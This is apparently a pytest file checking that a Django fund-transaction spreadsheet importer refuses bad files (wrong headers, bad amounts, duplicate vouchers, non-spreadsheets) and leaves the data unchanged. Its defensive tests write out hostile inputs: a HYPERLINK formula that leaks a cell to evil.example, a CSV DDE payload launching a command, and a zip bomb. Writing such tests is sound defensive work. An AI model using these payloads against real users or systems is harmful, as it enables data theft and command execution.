"""Bad imports: each gives errors naming the row, the column and why, and changes nothing."""

from __future__ import annotations

import io
import re
import time
import tracemalloc
import zipfile

import pytest
from django.utils import translation
from pghistory.models import Events

from config.models import FileJobStatus
from config.spreadsheet_import import FileRefused
from distributors.imports import import_fund_transactions
from distributors.models import FundTransaction
from tests.distributors.import_support import CHINESE, ENGLISH, csv_bytes, row, xlsx
from tests.factories import make_distributor, make_user

pytestmark = pytest.mark.django_db


@pytest.fixture
def clerk():
    return make_user("clerk")


@pytest.fixture(autouse=True)
def distributor():
    return make_distributor(code="D001")


@pytest.fixture
def refused(clerk):
    """Import a file, expect it refused, and check it changed nothing: no transaction, no history."""

    def run(content: bytes, filename: str = "bad.xlsx") -> list[dict]:
        transactions = FundTransaction.objects.count()
        events = Events.objects.filter(pgh_obj_model="distributors.FundTransaction").count()
        job = import_fund_transactions(actor=clerk, filename=filename, content=content)
        assert job.status == FileJobStatus.READY
        assert job.errors, "the file was expected to be refused"
        assert job.importable_rows == 0 and job.created_count == 0
        assert FundTransaction.objects.count() == transactions
        assert Events.objects.filter(pgh_obj_model="distributors.FundTransaction").count() == events
        return job.errors

    return run


def test_wrong_headers_name_each_unknown_and_missing_column(refused):
    header = ["分销商编号", "种类", "金额", "支付方式"]  # 种类 is not 类型

    errors = refused(xlsx([["D001", "充值", 10, "现金"]], header=header))

    assert {"row": 1, "field": "种类", "message": "Unknown column “种类”."} in errors
    assert {"row": 1, "field": "类型", "message": "This column is missing."} in errors


def test_text_in_the_amount(refused):
    errors = refused(xlsx([row(amount="一百元")]))

    assert errors == [{"row": 2, "field": "金额", "message": "“一百元” is not an amount."}]


@pytest.mark.parametrize("amount", [0, -5, "-0.01", "0.00"])
def test_a_zero_or_negative_amount(refused, amount):
    errors = refused(xlsx([row(amount=amount)]))

    assert errors == [{"row": 2, "field": "金额", "message": "The amount must be greater than zero."}]


@pytest.mark.parametrize("amount", [1.005, 2.675, "12.345"])
def test_more_than_two_decimals(refused, amount):
    errors = refused(xlsx([row(voucher="V1"), row(amount=amount, voucher="V2")]))

    assert [(e["row"], e["field"]) for e in errors] == [(3, "金额")]
    assert "more than two decimals" in errors[0]["message"]


def test_an_unknown_distributor(refused):
    errors = refused(csv_bytes([row("D001", voucher="V1"), row("NOBODY", voucher="V2")], header=ENGLISH), "a.csv")

    assert errors == [{"row": 3, "field": "Distributor code", "message": "No distributor has the code NOBODY."}]


def test_a_voucher_repeated_within_the_file(refused):
    errors = refused(xlsx([row(voucher="V1", amount=1), row(voucher="V2"), row(voucher="V1", amount=2)]))

    assert errors == [{"row": 4, "field": "凭证号", "message": "The voucher number V1 is also on row 2."}]


def test_a_voucher_already_in_the_database(refused, clerk, distributor):
    existing = FundTransaction.objects.create(
        distributor=distributor, type="recharge", amount=5, voucher_no="V9", created_by=clerk
    )

    errors = refused(xlsx([row(voucher="V1"), row(voucher="V9")]))

    assert errors == [{"row": 3, "field": "凭证号", "message": f"The voucher number V9 is already recorded (FT{existing.pk})."}]


def test_an_exact_duplicate_row_without_voucher_or_reference(refused):
    errors = refused(xlsx([row(voucher=""), row(voucher="")]))

    assert [(e["row"], e["field"]) for e in errors] == [(3, "")]
    assert "repeats row 2" in errors[0]["message"]


def test_several_problems_are_all_listed_with_their_rows(refused):
    errors = refused(xlsx([row(voucher="V1"), row(amount="x", type="gift", voucher="V2"), row(code="", voucher="V3")]))

    assert [(e["row"], e["field"]) for e in errors] == [(3, "类型"), (3, "金额"), (4, "分销商编号")]


def test_a_float_excel_computed_is_refused_for_its_decimals_not_rounded():
    from django.core.exceptions import ValidationError

    from config.spreadsheet_import import parse_amount

    with pytest.raises(ValidationError, match="more than two decimals"), translation.override("en"):
        parse_amount(0.1 + 0.2)  # 0.30000000000000004, as a sum computed in Excel is stored
    assert str(parse_amount(100.1)) == "100.10"  # repr() of the float, not its binary expansion


def test_an_empty_file_is_refused_at_upload(clerk):
    for filename in ("empty.xlsx", "empty.csv"):
        with pytest.raises(FileRefused):
            import_fund_transactions(actor=clerk, filename=filename, content=b"")
    assert not FundTransaction.objects.exists()


def test_a_csv_with_only_blank_lines(refused):
    errors = refused(b"\r\n\r\n , \r\n", "blank.csv")

    assert errors == [{"row": None, "field": "", "message": "The file is empty, or its first row (the column headers) is empty."}]


def test_headers_but_no_rows(refused):
    errors = refused(xlsx([]))

    assert errors == [{"row": None, "field": "", "message": "The file has column headers but no rows to import."}]


def lying_dimension_xlsx() -> bytes:
    """One real row, a <dimension> claiming a million rows, and a styled empty row at row 1,000,000."""
    source = zipfile.ZipFile(io.BytesIO(xlsx([row(voucher="V1")])))
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as archive:
        for member in source.infolist():
            data = source.read(member.filename)
            if member.filename == "xl/worksheets/sheet1.xml":
                text = data.decode()
                text = re.sub(r'<dimension ref="[^"]*"\s*/>', '<dimension ref="A1:K1000000"/>', text)
                text = text.replace("</sheetData>", '<row r="1000000"><c r="A1000000" s="0"/></row></sheetData>')
                assert 'ref="A1:K1000000"' in text
                data = text.encode()
            archive.writestr(member, data)
    return target.getvalue()


def test_a_dimension_claiming_a_million_rows_is_not_believed(clerk):
    from openpyxl import load_workbook

    content = lying_dimension_xlsx()
    assert load_workbook(io.BytesIO(content), read_only=True).active.max_row == 1_000_000  # openpyxl believes it

    tracemalloc.start()
    started = time.perf_counter()
    job = import_fund_transactions(actor=clerk, filename="lying.xlsx", content=content)
    elapsed = time.perf_counter() - started
    _current, peak = tracemalloc.get_traced_memory()
    tracemalloc.stop()

    assert (job.status, job.total_rows, job.created_count) == (FileJobStatus.DONE, 1, 1)
    assert elapsed < 5
    assert peak < 50 * 1024 * 1024


def test_formulas_are_refused_not_evaluated(refused):
    content = xlsx([
        row(amount="=1+1", voucher="V1"),
        row(remark='=HYPERLINK("http://evil.example/?leak="&A2,"点我")', voucher="V2"),
    ])

    errors = refused(content)

    assert [(e["row"], e["field"]) for e in errors] == [(2, "金额"), (3, "备注")]
    assert all("Formulas are not accepted" in e["message"] for e in errors)


def test_a_formula_typed_into_a_csv_is_refused_too(refused):
    errors = refused(csv_bytes([row(remark="=cmd|' /C calc'!A0")], header=CHINESE), "a.csv")

    assert [(e["row"], e["field"]) for e in errors] == [(2, "备注")]


@pytest.mark.parametrize(
    ("content", "filename", "message"),
    [
        (b"\x89PNG\r\n\x1a\n" + bytes(200), "photo.xlsx", "not an Excel workbook"),
        (b"PK\x03\x04 truncated zip", "broken.xlsx", "not an Excel workbook"),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(100), "old.xlsx", "old Excel file (.xls)"),
        (b"\x89PNG\r\n\x1a\n\x00\x00" + bytes(200), "photo.csv", "not a CSV text file"),
        (b"\x80\x80\xff\xfe\x81", "garbled.csv", "neither UTF-8 nor GB18030"),
    ],
)
def test_a_file_that_is_not_a_spreadsheet(refused, content, filename, message):
    [error] = refused(content, filename)

    assert error["row"] is None
    assert message in error["message"]


def test_a_zip_bomb_is_refused_before_it_is_inflated(refused, settings):
    settings.IMPORT_MAX_UNCOMPRESSED_BYTES = 1024 * 1024
    bomb = io.BytesIO()
    with zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("xl/workbook.xml", "<workbook/>")
        archive.writestr("xl/worksheets/sheet1.xml", bytes(4 * 1024 * 1024))

    [error] = refused(bomb.getvalue(), "bomb.xlsx")

    assert "unpacks to far more data" in error["message"]


def test_a_file_over_the_size_limit_is_refused(clerk, settings):
    settings.IMPORT_MAX_FILE_BYTES = 1024

    with pytest.raises(FileRefused):
        import_fund_transactions(actor=clerk, filename="big.csv", content=b"x" * 2048)
    assert not FundTransaction.objects.exists()
